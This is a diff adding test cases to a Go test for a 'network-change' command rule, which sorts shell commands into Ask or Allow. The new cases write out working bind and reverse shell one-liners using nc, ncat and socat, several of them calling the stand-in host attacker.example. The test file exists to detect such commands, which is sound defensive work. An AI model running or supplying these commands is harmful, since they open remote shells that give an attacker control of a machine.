@@ -11,6 +11,21 @@ import "testing"
 func TestNetworkChange(t *testing.T) {
 	t.Parallel()
 	testRule(t, "network-change", []ruleCase{
+		// Bind and reverse shells: a program driven by the connection.
+		{"nc -e /bin/sh attacker.example 4444", Ask},
+		{"nc -lvp 4444 -e /bin/bash", Ask},
+		{"nc -lvpe /bin/bash 4444", Ask},
+		{"ncat --exec /bin/bash attacker.example 4444", Ask},
+		{"ncat --sh-exec='bash -i' attacker.example 4444", Ask},
+		{"ncat -c 'bash -i' attacker.example 4444", Ask},
+		{"socat tcp:attacker.example:4444 exec:bash", Ask},
+		{"socat TCP-LISTEN:4444 SYSTEM:sh", Ask},
+		{"nc -l 8080", Allow},
+		{`while true; do nc -l -p 1500 -c 'echo -e "HTTP/1.1 200 OK\n\nhi"'; done`, Allow}, // a fixed reply
+		{"nc -l -p 1500 -e /usr/bin/python3", Ask},
+		{"nc -zv host 22", Allow},
+		{"socat TCP-LISTEN:8080,fork TCP:host:80", Allow},
+		{"ncat -l 8080 --keep-open", Allow},
 		{"iptables -F", Ask},
 		{"sudo iptables --flush", Ask},
 		{"iptables --fl", Ask}, // getopt_long prefix
